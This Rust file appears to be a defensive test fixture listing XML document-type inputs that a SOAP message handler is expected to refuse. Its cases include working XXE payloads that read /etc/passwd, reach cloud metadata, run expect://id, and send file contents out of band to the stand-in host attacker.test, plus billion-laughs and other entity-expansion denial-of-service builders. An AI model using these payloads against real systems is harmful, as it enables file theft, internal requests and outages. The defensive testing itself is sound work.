//! Document types from public lists of attacks, such as external entities and entities that
//! multiply.

use super::{Body, End, Shape, Way, each};

/// OWASP Cheat Sheet Series, XML Security and XML External Entity Prevention; Web Security Testing
/// Guide, WSTG-INPV-07.
const OWASP: &str = "OWASP";
/// PayloadsAllTheThings, "XXE Injection".
const PAYLOADS: &str = "PayloadsAllTheThings";
/// B. Sullivan, "XML Denial of Service Attacks and Defenses", MSDN Magazine, November 2009.
const SULLIVAN: &str = "MSDN Magazine 11/2009";
/// T. Morgan and O. Al Ibrahim, "XML Schema, DTD, and Entity Attacks", 2014.
const MORGAN: &str = "Morgan and Al Ibrahim 2014";
/// C. Späth et al., "SoK: XML Parser Vulnerabilities", WOOT 2016.
const SPAETH: &str = "SoK: XML Parser Vulnerabilities";
/// Reports against libxml2.
const CVE: &str = "CVE";
const OWN: &str = "own";

const WORDS: &str = "A message may not have a document type";

const fn text(name: &'static str, source: &'static str, text: &'static str) -> Shape {
    Shape {
        name,
        source,
        way: Way::Envelope,
        body: Body::Text(text),
        end: End::Refused(WORDS),
    }
}

const fn built(name: &'static str, source: &'static str, way: Way, body: Body) -> Shape {
    Shape {
        name,
        source,
        way,
        body,
        end: End::Refused(WORDS),
    }
}

/// Returns a document type with ten entities, each of which, except the first, contains the
/// previous one ten times.
fn laughs() -> String {
    let levels = each(10, |n| {
        let ten = match n {
            0 => "lol".to_owned(),
            _ => format!("&l{};", n - 1).repeat(10),
        };
        format!("<!ENTITY l{n} \"{ten}\">")
    });
    format!("<!DOCTYPE lolz [{levels}]>")
}

fn enumeration(kind: &str, count: usize) -> String {
    let names = each(count, |n| format!("n{n}|"));
    format!("<!DOCTYPE a [<!ATTLIST a x {kind}({names}z) #IMPLIED>]><a/>")
}

fn wide(text: &str, to_bytes: fn(u16) -> [u8; 2]) -> Vec<u8> {
    let units = "\u{feff}".encode_utf16().chain(text.encode_utf16());
    units.flat_map(to_bytes).collect()
}

pub const SHAPES: &[Shape] = &[
    text(
        "a file in an entity",
        OWASP,
        "<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
    ),
    text(
        "a device in an entity",
        OWASP,
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///dev/random\">]><foo>&xxe;</foo>",
    ),
    text(
        "a page in an entity",
        OWASP,
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"http://www.attacker.test/text.txt\">]><foo>&xxe;</foo>",
    ),
    text(
        "a file in an attribute",
        OWASP,
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]><foo bar=\"&xxe;\"/>",
    ),
    text(
        "a public entity",
        PAYLOADS,
        "<!DOCTYPE foo [<!ENTITY xxe PUBLIC \"any\" \"file:///etc/passwd\">]><foo>&xxe;</foo>",
    ),
    text(
        "a PHP filter",
        PAYLOADS,
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"php://filter/convert.base64-encode/resource=index.php\">]><foo>&xxe;</foo>",
    ),
    text(
        "a PHP command",
        PAYLOADS,
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"expect://id\">]><foo>&xxe;</foo>",
    ),
    text(
        "FTP",
        PAYLOADS,
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"ftp://127.0.0.1/x\">]><foo>&xxe;</foo>",
    ),
    text(
        "gopher",
        PAYLOADS,
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"gopher://127.0.0.1:6379/_INFO\">]><foo>&xxe;</foo>",
    ),
    text(
        "a Windows share",
        PAYLOADS,
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"\\\\attacker.test\\share\">]><foo>&xxe;</foo>",
    ),
    text(
        "a jar",
        PAYLOADS,
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"jar:http://attacker.test/a.zip!/b\">]><foo>&xxe;</foo>",
    ),
    text(
        "netdoc",
        PAYLOADS,
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"netdoc:/etc/passwd\">]><foo>&xxe;</foo>",
    ),
    text(
        "data",
        PAYLOADS,
        "<!DOCTYPE foo [<!ENTITY % x SYSTEM \"data://text/plain;base64,PCFFTlRJVFkgYSAnYic+\"> %x;]><foo/>",
    ),
    text(
        "cloud metadata",
        PAYLOADS,
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><foo>&xxe;</foo>",
    ),
    text(
        "an external parameter entity",
        PAYLOADS,
        "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://attacker.test/x.dtd\"> %xxe;]><foo/>",
    ),
    text(
        "out of band through an external subset",
        PAYLOADS,
        "<!DOCTYPE r [<!ENTITY % data SYSTEM \"file:///etc/passwd\"><!ENTITY % dtd SYSTEM \"http://attacker.test/e.dtd\"> %dtd; %all;]><r>&send;</r>",
    ),
    text(
        "out of band through an error",
        PAYLOADS,
        "<!DOCTYPE r [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % e \"<!ENTITY &#x25; g SYSTEM 'file:///no/%f;'>\"> %e; %g;]><r/>",
    ),
    text(
        "a local subset taken over",
        PAYLOADS,
        "<!DOCTYPE r [<!ENTITY % d SYSTEM \"file:///usr/share/yelp/dtd/docbookx.dtd\"><!ENTITY % ISOamso '<!ENTITY &#x25; f SYSTEM \"file:///etc/passwd\">'> %d;]><r/>",
    ),
    text(
        "an external subset",
        SPAETH,
        "<!DOCTYPE r SYSTEM \"http://attacker.test/r.dtd\"><r/>",
    ),
    text(
        "a public subset",
        SPAETH,
        "<!DOCTYPE r PUBLIC \"-//A//B//EN\" \"http://attacker.test/r.dtd\"><r/>",
    ),
    text(
        "a default attribute that declares a namespace",
        SPAETH,
        "<!DOCTYPE r [<!ATTLIST r xmlns CDATA \"urn:x\" xmlns:xsi CDATA #FIXED \"http://www.w3.org/2001/XMLSchema-instance\">]><r/>",
    ),
    text(
        "a default attribute with a schema location",
        SPAETH,
        "<!DOCTYPE r [<!ATTLIST r xsi:noNamespaceSchemaLocation CDATA \"http://attacker.test/x.xsd\">]><r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"/>",
    ),
    text(
        "a preset XInclude",
        SPAETH,
        "<!DOCTYPE r [<!ENTITY x '<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>'>]><r>&x;</r>",
    ),
    text(
        "an entity loop",
        SPAETH,
        "<!DOCTYPE r [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]><r>&a;</r>",
    ),
    text(
        "an entity that refers to itself",
        MORGAN,
        "<!DOCTYPE r [<!ENTITY a \"x&a;\">]><r>&a;</r>",
    ),
    text(
        "an unparsed entity",
        MORGAN,
        "<!DOCTYPE r [<!NOTATION n SYSTEM \"n\"><!ENTITY a SYSTEM \"http://attacker.test/a.gif\" NDATA n><!ATTLIST r s ENTITY #IMPLIED>]><r s=\"a\"/>",
    ),
    text(
        "a notation",
        MORGAN,
        "<!DOCTYPE r [<!NOTATION n SYSTEM \"http://attacker.test/n\">]><r/>",
    ),
    text(
        "a conditional section",
        MORGAN,
        "<!DOCTYPE r [<![INCLUDE[<!ENTITY a 'b'>]]>]><r>&a;</r>",
    ),
    text("a document type alone", OWN, "<!DOCTYPE soap>"),
    text(
        "a document type without an end",
        OWN,
        "<!DOCTYPE r [<!ENTITY a \"b\"",
    ),
    text(
        "a document type after a comment and an instruction",
        OWN,
        "<?xml version=\"1.0\"?><!-- a --><?b c?>\r\n<!DOCTYPE r><r/>",
    ),
    text(
        "a document type before an envelope",
        OWN,
        "<!DOCTYPE s:Envelope SYSTEM \"http://schemas.xmlsoap.org/soap/envelope/\"><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body/></s:Envelope>",
    ),
    text(
        "a document type after a mistake",
        OWN,
        "<?xml version='1.0' a='b'?><!-- c -- d --><!DOCTYPE r [<!ENTITY a 'b'>]><r>&a;</r>",
    ),
    built(
        "ten laughs of ten",
        SULLIVAN,
        Way::Envelope,
        Body::Built(|| laughs() + "<lolz>&l9;</lolz>"),
    ),
    built(
        "ten laughs of ten in a response",
        SULLIVAN,
        Way::Response,
        Body::Built(|| laughs() + "<lolz a='&l9;'/>"),
    ),
    built(
        "one long entity, used often",
        SULLIVAN,
        Way::Identity,
        Body::Built(|| {
            let long = "x".repeat(50_000);
            let often = "&x;".repeat(50_000);
            format!("<!DOCTYPE r [<!ENTITY x \"{long}\">]><r>{often}</r>")
        }),
    ),
    built(
        "laughs of parameter entities",
        "CVE-2021-3541",
        Way::Transformed,
        Body::Built(|| {
            let levels = each(20, |n| {
                let inner = match n {
                    0 => "<!--a-->".to_owned(),
                    _ => format!("&#37;p{};", n - 1).repeat(2),
                };
                format!("<!ENTITY % p{n} \"{inner}\">")
            });
            format!("<!DOCTYPE r [{levels}%p19;]><r/>")
        }),
    ),
    built(
        "deep expansion",
        "CVE-2013-0338",
        Way::CopyOf,
        Body::Built(|| {
            let levels = each(40, |n| {
                format!("<!ENTITY e{n} \"&e{};&e{};\">", n + 1, n + 1)
            });
            format!("<!DOCTYPE r [{levels}<!ENTITY e40 \"x\">]><r a=\"&e0;\"/>")
        }),
    ),
    built(
        "an entity in an attribute's default",
        CVE,
        Way::Envelope,
        Body::Built(|| laughs().replace("]>", "<!ATTLIST a b CDATA '&l9;'>]><a/>")),
    ),
    built(
        "one enumeration of many names",
        OWN,
        Way::Envelope,
        Body::Built(|| enumeration("", 100_000)),
    ),
    built(
        "one enumeration of many notations, packed",
        OWN,
        Way::Envelope,
        Body::Packed(|| enumeration("NOTATION ", 80_000)),
    ),
    built(
        "many attributes of type ID",
        OWN,
        Way::Response,
        Body::Built(|| {
            let ids = each(40_000, |n| format!(" a{n} ID #IMPLIED"));
            format!("<!DOCTYPE a [<!ATTLIST a{ids}>]><a/>")
        }),
    ),
    built(
        "half a megabyte of blanks through a one-byte name",
        OWN,
        Way::Response,
        Body::Built(|| {
            let blanks = " ".repeat(500_000);
            let often = "%a;".repeat(100_000);
            format!("<!DOCTYPE r [<!ENTITY a 'x'><!ENTITY % a '{blanks}'>{often}]><r/>")
        }),
    ),
    built(
        "nine megabytes of text through a one-byte name",
        OWN,
        Way::Identity,
        Body::Built(|| {
            let long = "y".repeat(60_000);
            let often = "&e;".repeat(150);
            format!("<!DOCTYPE r [<!ENTITY % e 'x'><!ENTITY e '{long}'>]><r>{often}</r>")
        }),
    ),
    built(
        "depth through entities",
        OWN,
        Way::Identity,
        Body::Built(|| {
            let (open, close) = ("<a>".repeat(190), "</a>".repeat(190));
            let levels = each(9, |n| format!("<!ENTITY e{n} '{open}&e{};{close}'>", n + 1));
            format!("<!DOCTYPE r [{levels}<!ENTITY e9 'x'>]><r>&e0;</r>")
        }),
    ),
    built(
        "default attributes in a hidden list",
        OWN,
        Way::Envelope,
        Body::Built(|| {
            let list = each(8_000, |n| format!(" a{n} CDATA &#39;&#39;"));
            format!("<!DOCTYPE a [<!ENTITY % l \"&#60;!ATTLIST a{list}&#62;\"> %l;]><a/>")
        }),
    ),
    built(
        "a document type in UTF-16",
        SPAETH,
        Way::Envelope,
        Body::BuiltBytes(|| {
            let text = "<!DOCTYPE r [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><r>&a;</r>";
            wide(text, u16::to_le_bytes)
        }),
    ),
    built(
        "a document type in UTF-16 with the other byte order",
        SPAETH,
        Way::Transformed,
        Body::BuiltBytes(|| {
            let text = "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE r><r/>";
            wide(text, u16::to_be_bytes)
        }),
    ),
    built(
        "many elements declared",
        OWN,
        Way::Envelope,
        Body::Built(|| {
            let list = each(30_000, |n| format!("<!ELEMENT a{n} (b{n},c)>"));
            format!("<!DOCTYPE a [{list}]><a/>")
        }),
    ),
    built(
        "one content model of many names",
        OWN,
        Way::Envelope,
        Body::Built(|| {
            let names = each(100_000, |n| format!("b{n},"));
            format!("<!DOCTYPE a [<!ELEMENT a ({names}c)>]><a/>")
        }),
    ),
    built(
        "a deeply nested content model",
        CVE,
        Way::Response,
        Body::Built(|| {
            let (open, close) = ("(".repeat(200_000), ")".repeat(200_000));
            format!("<!DOCTYPE a [<!ELEMENT a {open}b{close}>]><a/>")
        }),
    ),
];
